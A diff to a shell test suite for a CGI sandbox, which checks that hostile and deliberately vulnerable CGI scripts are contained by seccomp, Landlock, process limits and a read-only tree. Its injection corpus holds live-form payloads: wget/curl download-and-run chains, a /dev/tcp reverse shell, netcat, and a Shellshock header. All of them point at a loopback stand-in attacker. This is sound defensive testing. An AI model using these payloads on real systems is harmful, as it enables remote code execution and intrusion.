@@ -21,6 +21,10 @@ ATTACKER_PID=
 VICTIM_PID=
 ABSTRACT=safecgi-hostile-$$
 PWNED=hostile-pwned
+# Scripts here run as a uid of their own, not nobody: RLIMIT_NPROC counts
+# every process of a uid on the host, and other test files running
+# scripts as nobody at the same time would eat into this file's limit.
+JAIL_UID=64123
 
 jail_cleanup() {
 	[ -n "$ATTACKER_PID" ] && kill "$ATTACKER_PID" 2>/dev/null
@@ -46,6 +50,9 @@ cat > "$T/profiles/jail.conf" <<PROFILE
 [profile]
 name = jail
 match = $CGIBIN/*
+[identity]
+user = $JAIL_UID
+group = $JAIL_UID
 [limits]
 timeout = 10
 cpu = 2
@@ -59,6 +66,9 @@ cat > "$T/profiles/vuln-system.conf" <<PROFILE
 [profile]
 name = vuln-system
 match = $CGIBIN/vuln_system
+[identity]
+user = $JAIL_UID
+group = $JAIL_UID
 [limits]
 timeout = 10
 cpu = 2
@@ -73,6 +83,9 @@ cat > "$T/profiles/leaky.conf" <<PROFILE
 [profile]
 name = leaky
 match = $CGIBIN/vuln_leaky.sh
+[identity]
+user = $JAIL_UID
+group = $JAIL_UID
 [limits]
 timeout = 10
 cpu = 2
@@ -100,11 +113,13 @@ APORT=$(cat "$T/attacker.port")
 : >> "$ATTACKER_LOG"
 
 # A process outside the jail, of the very user scripts run as.
-setpriv --reuid=nobody --regid=nogroup --clear-groups sleep 600 &
+setpriv --reuid=$JAIL_UID --regid=$JAIL_UID --clear-groups sleep 600 &
 VICTIM_PID=$!
 
 start_nginx
-start_safecgi
+# one worker: concurrent requests share a PID namespace view and a /tmp,
+# which is what the cross-request attempts below need
+start_safecgi -c 1
 
 # ----------------------------------------------------------- helpers
 
@@ -160,6 +175,13 @@ audit_since() {
 	return 1
 }
 
+# todo DESCRIPTION REASON: a known gap, shown in the TAP output (TODO
+# directive) without failing the run.
+todo() {
+	TESTNO=$((TESTNO + 1))
+	echo "not ok $TESTNO - $1 # TODO $2"
+}
+
 no_host_file() {
 	if [ -e "$1" ]; then
 		rm -f "$1"
@@ -176,7 +198,7 @@ verdict() {
 	else
 		not_ok "$1" "$2"
 	fi
-	[ -n "${line:-}" ] && printf '#   body: %.200s\n' "$line"
+	[ -n "${bl:-}" ] && printf '#   body: %.200s\n' "$bl"
 	return 0
 }
 
@@ -192,13 +214,13 @@ attempt() {
 	audit_mark
 	am=$(attacker_lines)
 	s=$(http_status "$BASE/cgi-bin/hostile?$q")
-	line=$(head -c 400 "$T/body" | head -n 1)
+	bl=$(head -c 400 "$T/body" | head -n 1)
 	why=
-	case $line in
+	case $bl in
 	"BLOCKED $name "*)
 		;;
 	*)
-		why="expected 'BLOCKED $name', got '${line:-<empty>}' (HTTP $s)"
+		why="expected 'BLOCKED $name', got '${bl:-<empty>}' (HTTP $s)"
 		;;
 	esac
 	sleep 0.2
@@ -231,16 +253,16 @@ a.send(b"sanity\n")
 a.close()
 PY
 sleep 0.5
-line=
+bl=
 check "the loopback attacker hears TCP, UDP and abstract unix clients on the host" \
     [ "$(grep -c "tcp4 .*sanity" "$ATTACKER_LOG")" -ge 1 -a \
       "$(grep -c "^udp " "$ATTACKER_LOG")" -ge 1 -a \
       "$(grep -c "^unix " "$ATTACKER_LOG")" -ge 1 ]
 
 s=$(http_status "$BASE/cgi-bin/hello?id")
-check "scripts run as nobody/nogroup with no supplementary group" \
-    sh -c "grep -q '^uid=65534 gid=65534\$' '$T/body' &&
-	grep -q '^Groups:	65534 *\$' '$T/body'"
+check "scripts run as the profile's uid and gid, with no supplementary group" \
+    sh -c "grep -q '^uid=$JAIL_UID gid=$JAIL_UID\$' '$T/body' &&
+	grep -q '^Groups:	$JAIL_UID *\$' '$T/body'"
 check "scripts hold no capability in any set, with no_new_privs and a seccomp filter" \
     sh -c "grep -q '^CapInh:	0000000000000000' '$T/body' &&
 	grep -q '^CapPrm:	0000000000000000' '$T/body' &&
@@ -254,6 +276,13 @@ check "scripts hold no capability in any set, with no_new_privs and a seccomp fi
 
 attempt "hostile CGI cannot connect to a TCP listener on the host's loopback" \
     "tcp_host_loopback=$APORT" socket AF_INET
+tail -n +$((AMARK + 1)) "$AUDIT" | grep '"syscall_blocked"' |
+    grep '"syscall":"socket"' | head -n 1 > "$T/event"
+check "the audit event of a blocked call names its request (script, URI, client)" \
+    sh -c "grep -q '\"script\":\"$CGIBIN/hostile\"' '$T/event' &&
+	grep -q '\"uri\":\"/cgi-bin/hostile?tcp_host_loopback=' '$T/event' &&
+	grep -q '\"client\":\"127.0.0.1\"' '$T/event'"
+printf '#   event: %.300s\n' "$(cat "$T/event")"
 attempt "hostile CGI cannot send UDP to the host's loopback" \
     "udp=$APORT" socket AF_INET
 attempt "hostile CGI cannot connect over IPv6 to the host's ::1" \
@@ -312,14 +341,24 @@ attempt "hostile CGI cannot make i386 or x32 system calls" compat_syscalls
 attempt "hostile CGI cannot signal a process of its own uid outside the jail" \
     "kill_outside=$VICTIM_PID" - "" "kill -0 $VICTIM_PID"
 
+# Another request, running at the same time in the same worker, with a
+# secret in its query: this one must not find it.
+curl -s -o /dev/null --max-time 30 \
+    "$BASE/cgi-bin/hostile?hold=3&secret=SECRET-$$-7731" &
+holdpid=$!
+sleep 0.5
+attempt "hostile CGI cannot read a concurrent request's environment" \
+    "peek=SECRET-$$-7731"
+wait "$holdpid"
+
 # A daemon: double fork, setsid, sleep.  The script only answers once the
 # daemon runs under its name, so it existed; it must not survive.
 s=$(http_status "$BASE/cgi-bin/hostile?daemon")
-line=$(head -n 1 "$T/body")
+bl=$(head -n 1 "$T/body")
 why=
-case $line in
+case $bl in
 "ALLOWED daemon started"*) ;;
-*) why="the daemon did not start: '${line:-<empty>}' (HTTP $s)" ;;
+*) why="the daemon did not start: '${bl:-<empty>}' (HTTP $s)" ;;
 esac
 wait_gone_x() {
 	i=0
@@ -338,17 +377,17 @@ verdict "a double-forked, setsid daemon does not outlive its request" "${why#; }
 # The bombs.  Each must end in the script's own report of its failure.
 t0=$(date +%s)
 attempt "a fork bomb is stopped by the process limit" forkbomb
-n=$(printf '%s' "$line" | sed -n 's/.* after \([0-9]*\) forks.*/\1/p')
+n=$(printf '%s' "$bl" | sed -n 's/.* after \([0-9]*\) forks.*/\1/p')
 t1=$(date +%s%N)
 s=$(http_status "$BASE/cgi-bin/hello")
 ms=$(( ($(date +%s%N) - t1) / 1000000 ))
-line=
+bl=
 check "after a fork bomb ($n forks) the server answers at once (${ms} ms)" \
     [ "$s" = 200 -a "$ms" -lt 2000 -a "${n:-99999}" -lt 1000 ]
 
 attempt "a memory bomb is stopped by the address-space limit" membomb
-mib=$(printf '%s' "$line" | sed -n 's/.* after \([0-9]*\) MiB.*/\1/p')
-line=
+mib=$(printf '%s' "$bl" | sed -n 's/.* after \([0-9]*\) MiB.*/\1/p')
+bl=
 check "the memory bomb got less than 1 GiB (${mib:-?} MiB)" \
     [ -n "$mib" ] && [ "$mib" -lt 1024 ]
 
@@ -357,11 +396,11 @@ check "the memory bomb got less than 1 GiB (${mib:-?} MiB)" \
 t0=$(date +%s)
 s=$(http_status "$BASE/cgi-bin/hostile?cpuloop")
 el=$(( $(date +%s) - t0 ))
-line=$(head -n 1 "$T/body")
+bl=$(head -n 1 "$T/body")
 why=
-case $s:$line in
+case $s:$bl in
 200:"BLOCKED cpuloop spinning child killed by SIGKILL"*|200:"BLOCKED cpuloop spinning child killed by SIGXCPU"*|504:*) ;;
-*) why="expected the CPU limit or the timeout to end it, got '$line' (HTTP $s)" ;;
+*) why="expected the CPU limit or the timeout to end it, got '$bl' (HTTP $s)" ;;
 esac
 [ "$el" -le 15 ] || why="$why; took ${el}s"
 left=$(leftovers)
@@ -373,7 +412,7 @@ audit_mark
 s=$(curl -s -o "$T/flood" -w '%{http_code}' --max-time 60 \
     "$BASE/cgi-bin/hostile?flood")
 size=$(stat -c %s "$T/flood" 2>/dev/null || echo 0)
-line="$size bytes, HTTP $s"
+bl="$size bytes, HTTP $s"
 why=
 [ "$size" -le $((8 * 1048576 + 65536)) ] || why="received $size bytes"
 ! grep -q "ALLOWED flood" "$T/flood" || why="$why; the flood ran to its end"
@@ -386,18 +425,39 @@ verdict "an output flood is cut at the output cap" "${why#; }"
 
 check "the process outside the jail is still alive" kill -0 "$VICTIM_PID"
 
+# The process limit is meant per request, but RLIMIT_NPROC counts every
+# process of the uid: 40 requests of one process each, at the same time,
+# under processes = 32.
+: > "$T/conc"
+pids=
+i=0
+while [ $i -lt 40 ]; do
+	curl -s -o /dev/null -w '%{http_code}\n' --max-time 30 \
+	    "$BASE/cgi-bin/hostile?hold=2" >> "$T/conc" &
+	pids="$pids $!"
+	i=$((i + 1))
+done
+for p in $pids; do wait "$p"; done
+n=$(grep -c '^200$' "$T/conc")
+if [ "$n" -eq 40 ]; then
+	ok "40 concurrent requests all run under a process limit of 32 each"
+else
+	todo "40 concurrent requests all run under a process limit of 32 each" \
+	    "RLIMIT_NPROC is per uid, not per request: only $n of 40 ran ($(sort "$T/conc" | uniq -c | tr -s ' \n' ' '))"
+fi
+
 # ------------------------------------------- vulnerable CGIs: injection
 
 # The injection path must work, or the corpus below proves nothing.
 s=$(http_status "$BASE/cgi-bin/vuln_eval.sh?;echo\${IFS}INJECTED-MARKER" -g)
-line=$(tr '\n' ' ' < "$T/body")
+bl=$(tr '\n' ' ' < "$T/body")
 check "sanity: with query = raw an injected echo reaches bash (vuln_eval.sh)" \
     grep -q '^INJECTED-MARKER$' "$T/body"
 s=$(http_status "$BASE/cgi-bin/vuln_system?host=127.0.0.1%3Becho%20INJECTED-MARKER")
-line=$(tr '\n' ' ' < "$T/body")
+bl=$(tr '\n' ' ' < "$T/body")
 check "sanity: an injected echo reaches the shell behind system() (vuln_system)" \
     grep -q '^INJECTED-MARKER$' "$T/body"
-line=
+bl=
 
 # urlencode: every byte as %XX, as form decoding will undo it
 urlencode() {
@@ -442,9 +502,9 @@ draytek-mainfunction 127.0.0.1;wget${IFS}http://@A@/wget.sh;${IFS}chmod${IFS}+x$
 draytek-printf-cd 0%52$c%52$ccd${IFS}/dev;wget${IFS}http://@A@/wget.sh;${IFS}chmod${IFS}+x${IFS}wget.sh;sh${IFS}wget.sh
 curl-pipe-sh 127.0.0.1;curl${IFS}-s${IFS}http://@A@/curl.sh|sh
 dev-tcp 127.0.0.1;exec${IFS}3<>/dev/tcp/127.0.0.1/@P@;echo${IFS}devtcp>&3
-dev-tcp-reverse-shell 127.0.0.1;bash${IFS}-c${IFS}'bash${IFS}-i>&/dev/tcp/127.0.0.1/@P@${IFS}0>&1'
+dev-tcp-reverse-shell 127.0.0.1;bash${IFS}-c${IFS}"bash${IFS}-i>&/dev/tcp/127.0.0.1/@P@${IFS}0>&1"
 busybox-wget 127.0.0.1;busybox${IFS}wget${IFS}http://@A@/busybox;busybox${IFS}nc${IFS}127.0.0.1${IFS}@P@
-background-persistence 127.0.0.1;(while${IFS}:;do${IFS}:;done)&
+background-persistence 127.0.0.1;eval${IFS}"(while${IFS}:;do${IFS}:;done)&"
 python-socket 127.0.0.1;python3${IFS}-c${IFS}'import${IFS}socket;socket.create_connection(("127.0.0.1",@P@))'
 CORPUS
 # what the base64 class decodes to
@@ -469,9 +529,12 @@ inject() {
 	audit_mark
 	am=$(attacker_lines)
 	s=$(http_status "$url" -g "$@")
-	line=$(head -c 300 "$T/body" | tr '\n' ' ')
+	bl=$(head -c 300 "$T/body" | tr '\n' ' ')
 	why=
-	[ "$s" = 200 ] || why="HTTP $s"
+	case " ${OK_STATUS:-200} " in
+	*" $s "*) ;;
+	*) why="HTTP $s" ;;
+	esac
 	sleep 0.2
 	if [ "$(attacker_lines)" != "$am" ]; then
 		why="$why; the loopback attacker heard: $(tail -n +$((am + 1)) "$ATTACKER_LOG" | head -3)"
@@ -482,6 +545,9 @@ inject() {
 	[ -z "$left" ] || why="$why; processes outlived the request: $left"
 	grep -q 'uid=' "$T/body" && why="$why; an injected id ran"
 	grep -q '^root:.*:0:0:' "$T/body" && why="$why; an injected cat ran"
+	if [ -n "${EXPECT_AUDIT:-}" ] && ! audit_since $EXPECT_AUDIT; then
+		why="$why; no syscall_blocked event for $EXPECT_AUDIT"
+	fi
 	verdict "$script: $class injection runs nothing, writes nothing, reaches nobody" \
 	    "${why#; }"
 }
@@ -494,23 +560,31 @@ while read -r class payload; do
 	*@SP@*|*@NL@*|*@TAB@*)
 		;;
 	*)
+		# bash opens /dev/tcp itself: the filter must see the socket
+		case $class in
+		dev-tcp*) EXPECT_AUDIT="socket AF_INET" ;;
+		esac
 		inject vuln_eval.sh "$class" \
 		    "$BASE/cgi-bin/vuln_eval.sh?$payload"
+		EXPECT_AUDIT=
 		;;
 	esac
 	inject vuln_system "$class" \
 	    "$BASE/cgi-bin/vuln_system?host=$(urlencode "$dec")"
 done < "$T/corpus"
 
-# Shellshock rides in a header, not the query.
+# Shellshock rides in a header, not the query.  Validation refuses it
+# (400) before any script runs; were it let through, bash is patched.
+OK_STATUS="200 400"
 inject vuln_eval.sh "shellshock-header" "$BASE/cgi-bin/vuln_eval.sh?x" \
     -A "() { :; }; /usr/bin/wget http://127.0.0.1:$APORT/shellshock; /usr/bin/touch $T/pwned"
+OK_STATUS=
 
 # The DrayTek request as it arrives: through PATH_INFO, payload in a
 # query argument.
 inject vuln_eval.sh "draytek-path-info" \
     "$BASE/cgi-bin/vuln_eval.sh/apmcfgupload?session=xxx0%52\$c%52\$ccd\${IFS}/dev;wget\${IFS}http://127.0.0.1:$APORT/wget.sh;\${IFS}chmod\${IFS}+x\${IFS}wget.sh;sh\${IFS}wget.sh"
-line=
+bl=
 check "the DrayTek chain reached execve and Landlock refused wget" \
     grep -q 'wget: Permission denied' "$ERRLOG"
 
@@ -519,21 +593,20 @@ check "the DrayTek chain reached execve and Landlock refused wget" \
 # Exec is opened up for wget, curl, touch, id and chmod: the injected
 # tools run, and the other layers must still hold.
 s=$(http_status "$BASE/cgi-bin/vuln_leaky.sh?;id" -g)
-line=$(tr '\n' ' ' < "$T/body")
-check "with exec opened up, injected id runs, as nobody without groups" \
-    grep -q '^uid=65534(nobody) gid=65534(nogroup) groups=65534(nogroup)$' \
-    "$T/body"
+bl=$(tr '\n' ' ' < "$T/body")
+check "with exec opened up, injected id runs, as the profile's uid without groups" \
+    grep -q "^uid=$JAIL_UID gid=$JAIL_UID groups=$JAIL_UID\$" "$T/body"
 audit_mark
 inject vuln_leaky.sh "draytek-mainfunction (wget allowed to run)" \
     "$BASE/cgi-bin/vuln_leaky.sh?;wget\${IFS}-T3\${IFS}-t1\${IFS}http://127.0.0.1:$APORT/wget.sh;\${IFS}chmod\${IFS}+x\${IFS}wget.sh;sh\${IFS}wget.sh"
-line=
+bl=
 check "wget ran and its socket() was refused by the seccomp filter" \
     audit_since socket AF_INET
 inject vuln_leaky.sh "curl|sh (curl allowed to run)" \
     "$BASE/cgi-bin/vuln_leaky.sh?;curl\${IFS}-s\${IFS}-m3\${IFS}http://127.0.0.1:$APORT/curl.sh|sh"
 inject vuln_leaky.sh "touch into the docroot and the script dir (touch allowed to run)" \
     "$BASE/cgi-bin/vuln_leaky.sh?;touch\${IFS}$T/pwned;touch\${IFS}$CGIBIN/pwned;touch\${IFS}$DOCROOT/pwned"
-line=
+bl=
 check "the injected touch ran and found the tree read-only" \
     grep -q "touch: cannot touch '$T/pwned': Read-only file system" "$ERRLOG"
 
